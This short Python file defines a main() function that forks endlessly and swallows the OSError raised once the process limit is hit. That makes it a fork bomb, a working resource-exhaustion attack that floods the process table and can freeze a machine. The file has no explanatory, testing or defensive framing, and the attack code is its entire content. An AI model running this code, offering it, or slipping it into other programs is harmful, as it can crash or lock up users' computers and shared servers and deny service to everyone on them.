import os


def main():
    # Keeps forking and swallows the EAGAIN once the process limit is reached.
    while True:
        try:
            os.fork()
        except OSError:
            pass
